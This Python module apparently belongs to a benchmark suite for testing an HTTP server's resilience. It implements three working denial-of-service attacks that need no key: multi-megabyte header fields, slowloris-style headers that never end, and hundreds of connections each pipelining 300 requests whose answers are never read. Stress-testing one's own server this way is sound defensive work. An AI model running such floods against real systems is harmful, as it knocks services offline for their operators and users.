"""Attacks without a key: huge heads, heads that never end, answers that are never read."""

import asyncio
import socket

from benchmarks.attacks.attack import AGAIN_S, AttackAnswers, Target, write_all

PIECE_S = 1.0


class HugeHeads:
    """Header fields of several megabytes, on a few connections."""

    name = "huge heads"

    def __init__(self, at_once: int = 4, size: int = 28_000_000) -> None:
        self._at_once = at_once
        self._head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Long: " + b"x" * size

    async def run(self, target: Target, answers: AttackAnswers) -> None:
        async def one() -> None:
            while True:
                answers.by_status[await _answer_to(target, self._head)] += 1
                await asyncio.sleep(AGAIN_S)

        async with asyncio.TaskGroup() as group:
            for _ in range(self._at_once):
                group.create_task(one())


class HalfOpenHeads:
    """Many connections, each with a head that never ends."""

    name = "half-open heads"

    def __init__(self, at_once: int = 500) -> None:
        self._at_once = at_once

    async def run(self, target: Target, answers: AttackAnswers) -> None:
        async def one() -> None:
            while True:
                answers.by_status[await _dribbled(target)] += 1
                await asyncio.sleep(AGAIN_S)

        async with asyncio.TaskGroup() as group:
            for _ in range(self._at_once):
                group.create_task(one())


class Unread:
    """Many connections, each with hundreds of requests at once, whose answers are never read. Closed connections are
    opened again; no status is read."""

    name = "unread answers"

    def __init__(self, at_once: int = 500, requests: int = 300) -> None:
        self._at_once = at_once
        self._requests = b"GET /schema/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * requests

    async def run(self, target: Target, answers: AttackAnswers) -> None:
        async def one() -> None:
            while True:
                await self._unread(target)
                answers.by_status[0] += 1
                await asyncio.sleep(AGAIN_S)

        async with asyncio.TaskGroup() as group:
            for _ in range(self._at_once):
                group.create_task(one())

    async def _unread(self, target: Target) -> None:
        loop = asyncio.get_running_loop()
        with socket.socket() as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.setblocking(False)
            try:
                await loop.sock_connect(client, (target.host, target.port))
                await loop.sock_sendall(client, self._requests)
            except OSError:
                return
            while not client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                await asyncio.sleep(PIECE_S)


async def _dribbled(target: Target) -> int:
    """The status with which the connection was ended, 0 for none."""
    try:
        reader, writer = await asyncio.open_connection(target.host, target.port)
    except OSError:
        return 0
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\n")
        answer = asyncio.create_task(reader.readline())
        try:
            while not answer.done():
                writer.write(b"X-More: x\r\n")
                await writer.drain()
                await asyncio.wait({answer}, timeout=PIECE_S)
            return _status(answer.result())
        finally:
            answer.cancel()
            await asyncio.wait({answer})
    except (OSError, ValueError):
        return 0
    finally:
        writer.transport.abort()


async def _answer_to(target: Target, data: bytes) -> int:
    try:
        reader, writer = await asyncio.open_connection(target.host, target.port)
    except OSError:
        return 0
    writing = asyncio.create_task(write_all(writer, data))
    try:
        return _status(await reader.readline())
    except (OSError, ValueError):
        return 0
    finally:
        writing.cancel()
        await asyncio.wait({writing})
        writer.transport.abort()


def _status(line: bytes) -> int:
    parts = line.split(None, 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
